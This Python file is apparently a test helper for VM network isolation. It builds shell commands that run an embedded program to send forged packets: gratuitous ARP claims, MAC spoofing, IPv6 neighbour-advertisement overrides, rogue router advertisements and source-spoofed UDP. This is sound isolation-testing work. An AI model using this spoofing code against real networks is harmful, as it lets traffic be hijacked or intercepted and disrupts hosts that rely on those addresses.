"""What root in a VM sends in the name of others: a program that needs Python's standard library.

Interfaces: eth0 has IPv4, eth1 has IPv6.
"""

import shlex


def forge(name: str, *arguments: str) -> str:
    """Return a command that sends one of the program's forgeries."""
    return shlex.join(["python3", "-c", _PROGRAM, name, *arguments])


_PROGRAM = """
import socket, struct, sys
from ipaddress import ip_address

def mac_of(name):
    with open(f"/sys/class/net/{name}/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))

def packed(mac):
    return bytes.fromhex(mac.replace(":", ""))

def send(frame, name="eth0"):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((name, 0))
        raw.send(frame.ljust(60, bytes(1)))

def arp(ip, sender):
    # Gratuitous: all addresses are the sender's, so neighbours replace what they know at once.
    return struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + (sender + ip_address(ip).packed) * 2

def claim(ip, tag=b""):
    mine = mac_of("eth0")
    send(b"\\xff" * 6 + mine + tag + b"\\x08\\x06" + arp(ip, mine))

def claim_tagged(ip):
    claim(ip, b"\\x81\\x00\\x00\\x00")

def claim_as(ip, mac):
    send(b"\\xff" * 6 + mac_of("eth0") + b"\\x08\\x06" + arp(ip, packed(mac)))

def use_mac(mac, to):
    send(packed(to) + packed(mac) + b"\\x88\\xb5")

def icmpv6(message):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth1"))
        raw.sendto(message, ("ff02::1", 0))

def link_layer(kind):
    return bytes([kind, 1]) + mac_of("eth1")

def advertise(ip):  # with the flag "override"
    icmpv6(struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ip_address(ip).packed + link_layer(2))

def route():
    icmpv6(struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + link_layer(1))

def datagram(source, target, port, text):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        if source:
            six = family == socket.AF_INET6  # in.h: IP_TRANSPARENT, in6.h: IPV6_TRANSPARENT
            sender.setsockopt(*((socket.IPPROTO_IPV6, 75) if six else (socket.IPPROTO_IP, 19)), 1)
            sender.bind((source, 0))
        sender.sendto(text.encode(), (target, int(port)))

globals()[sys.argv[1]](*sys.argv[2:])
"""
